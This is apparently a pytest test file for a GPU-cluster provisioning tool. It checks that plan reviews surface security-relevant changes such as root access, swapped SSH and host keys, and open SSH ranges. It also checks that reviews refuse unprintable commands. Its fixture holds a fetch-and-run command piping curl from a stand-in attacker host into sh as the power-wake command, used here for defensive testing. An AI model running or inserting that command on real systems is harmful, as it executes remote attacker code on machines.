"""A review of own machines: they have no resource, and every change of what runs, and of who gets in, is seen."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from own_machines import HEAD, TRAINER, Project, shipped

from infra.graph import diff, plan_document
from infra.spec import SpecError

OTHER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHQxcqKw0RcA9hlgHxzU1FI0MqoHJqJQAqzrJtqB/+HV"
EVIL = ["sh", "-c", "curl -s https://evil.example/{bmc} | sh"]


def document(machines: Project, cluster: dict[str, Any]) -> dict[str, Any]:
    machines.plan(cluster)
    return json.loads(json.dumps(plan_document(machines.root, "x")))


def review(machines: Project, change: Callable[[dict[str, Any]], object]) -> tuple[dict[str, Any], str]:
    """The difference that a change of the shipped stack makes, as data and as text."""
    changed = shipped()
    change(changed)
    before, after = document(machines, shipped()), document(machines, changed)
    difference = diff.difference(before, after)
    return difference, diff.text({**after, "against": "HEAD", "difference": difference})


def put(cluster: dict[str, Any], *path: Any) -> None:
    """The last of the path is the value."""
    *places, key, value = path
    for place in places:
        cluster = cluster.setdefault(place, {}) if isinstance(cluster, dict) else cluster[place]
    cluster[key] = value


A1 = ("nodes", TRAINER, "hosts", 0)
CHANGES = {
    "power.wake": (("power", "wake", EVIL), "curl -s https://evil.example/{bmc} | sh"),
    "power.sleep": (("power", "sleep", EVIL), "curl -s https://evil.example/{bmc} | sh"),
    "access.user": (("access", "user", "root"), "access.user: ops → root"),
    "access.key_file": (("access", "key_file", "~/.ssh/other"), "access.key_file: ~/.ssh/gpufleet → ~/.ssh/other"),
    "access.control": (("access", "control", "10.60.0.5"), "network.gateway: null → 10.60.0.5"),
    "access.ssh_from": (("access", "ssh_from", ["10.0.0.0/9"]), "access.ssh_from[0]: 10.0.0.0/9"),
    "address": ((*A1, "address", "10.60.1.99"), "groups.trainer.nodes.dgx-a1.address: 10.60.1.11 → 10.60.1.99"),
    "port": ((*A1, "port", 2222), "groups.trainer.nodes.dgx-a1.port: 22 → 2222"),
    "host_key": ((*A1, "host_key", OTHER_KEY), f" → {OTHER_KEY}"),
    "rack": ((*A1, "rack", "c"), "groups.trainer.nodes.dgx-a1.rack: a → c"),
    "bmc": ((*A1, "bmc", "10.61.1.99"), "groups.trainer.nodes.dgx-a1.bmc: 10.61.1.11 → 10.61.1.99"),
    "prefix": (("nodes", HEAD, "hosts", 0, "prefix", "/x"), "groups.head.nodes.login.prefix: / → /x"),
    "storage": (("storage", 0, "mount", "/srv"), "storage.data.mount: /data → /srv"),
    "fabric": (("nodes", TRAINER, "fabric", "gbits", 200), "groups.trainer.rdma.gbits: 400 → 200"),
    "python": (("python", "/nfs/python"), "python: null → /nfs/python"),
    "disks": (
        ("nodes", TRAINER, "disks", [{"name": "kept", "mount": "/kept", "devices": ["/dev/sdb"]}]),
        "mkfs.xfs -L kept /dev/sdb",
    ),
}


@pytest.mark.parametrize(("change", "line"), CHANGES.values(), ids=CHANGES)
def test_a_change_of_any_decision_is_shown_from_old_to_new(
    machines: Project, change: tuple[Any, ...], line: str
) -> None:
    difference, text = review(machines, lambda cluster: put(cluster, *change))

    assert line in text
    assert "no resource differs" not in text
    assert difference["decisions"]
    assert difference["resources"] == []


def test_what_does_not_change_is_no_decision_that_differs(machines: Project) -> None:
    difference, text = review(machines, lambda _: None)

    assert difference["decisions"] == []
    assert "no resource differs" in text


def test_a_command_that_changes_is_shown_whole_before_all_else_and_is_a_finding(machines: Project) -> None:
    def change(cluster: dict[str, Any]) -> None:
        put(cluster, "nodes", TRAINER, "fabric", "gbits", 200)
        put(cluster, "power", "wake", EVIL)

    difference, text = review(machines, change)

    first = difference["decisions"][0]
    assert first["path"] == "commands[this computer · up, for each host that does not answer]"
    assert first["after"] == "sh -c 'curl -s https://evil.example/{bmc} | sh'"
    assert first["security"]
    assert text.index("evil.example") < text.index("rdma.gbits")
    (finding,) = difference["findings"]["new"]
    assert (finding["level"], finding["rule"]) == ("warning", "command-changes")
    assert first["before"] in finding["message"]
    assert first["after"] in finding["message"]


def test_a_long_list_of_other_changes_hides_no_change_of_security(machines: Project) -> None:
    def change(cluster: dict[str, Any]) -> None:
        for host in cluster["nodes"][TRAINER]["hosts"]:
            host["rack"] = f"r-{host['rack']}"
        for number in range(40):
            cluster["storage"].append({"name": f"s{number}", "kind": "folder", "mount": f"/srv/s{number}"})
        cluster["access"]["user"] = "root"

    _, text = review(machines, change)

    assert "access.user: ops → root" in text.split("\n  decisions\n")[0]


def test_hosts_that_come_and_go_are_shown_by_their_names(machines: Project) -> None:
    def change(cluster: dict[str, Any]) -> None:
        hosts = cluster["nodes"][TRAINER]["hosts"]
        hosts[1] = {**hosts[1], "name": "dgx-a9", "address": "10.60.1.99", "bmc": "10.61.1.99", "host_key": OTHER_KEY}

    _, text = review(machines, change)

    assert f"+   groups.trainer.nodes.dgx-a9.host_key: {OTHER_KEY}" in text
    assert "-   groups.trainer.nodes.dgx-a2.address: 10.60.1.12" in text


def test_another_order_of_ranks_is_a_decision(machines: Project) -> None:
    difference, _ = review(machines, lambda cluster: cluster["nodes"][TRAINER]["hosts"].reverse())

    assert {row["path"].partition("(")[0] for row in difference["decisions"]} == {"groups.trainer.nodes."}


def test_decisions_are_compared_where_a_plan_is_refused_and_has_no_resources(machines: Project) -> None:
    difference, text = review(machines, lambda cluster: put(cluster, "access", "ssh_from", ["0.0.0.0/0"]))

    assert difference["findings"]["new"][-1]["level"] == "error"
    assert "access.ssh_from[0]: 0.0.0.0/0" in text


def test_an_earlier_plan_without_decisions_is_not_taken_to_be_the_same(machines: Project) -> None:
    after = document(machines, shipped())
    before = {key: value for key, value in after.items() if key not in ("decisions", "commands")}

    difference = diff.difference(before, after)
    text = diff.text({**after, "against": "HEAD", "difference": difference})

    assert not difference["decisions_compared"]
    assert "no resource differs" not in text
    assert "decisions are not compared" in text
    assert "ipmitool" in text


def test_the_plan_itself_lists_what_runs_here_and_as_root(machines: Project) -> None:
    commands = document(machines, {**shipped(), "power": {"wake": EVIL, "sleep": ["off", "{host}"]}})["commands"]

    here = {command["when"]: command["argv"] for command in commands if command["where"] == "this computer"}
    assert here["up, for each host that does not answer"] == EVIL
    assert here["down, for each host"] == ["off", "{host}"]
    assert [command["argv"][0] for command in commands if command["where"] == "nodes as root"] == ["ansible-playbook"]


@pytest.mark.parametrize("word", ["\x1b[2K", "a\nb", "\u202egnp", "x" * 1001])
def test_a_command_that_no_review_could_show_is_refused(machines: Project, word: str) -> None:
    with pytest.raises(SpecError) as caught:
        machines.plan({**shipped(), "power": {"wake": ["wake", word]}})

    (problem,) = caught.value.problems
    assert problem.key.startswith("cluster.power.wake")
    assert "review" in problem.message
    assert problem.message.isprintable()
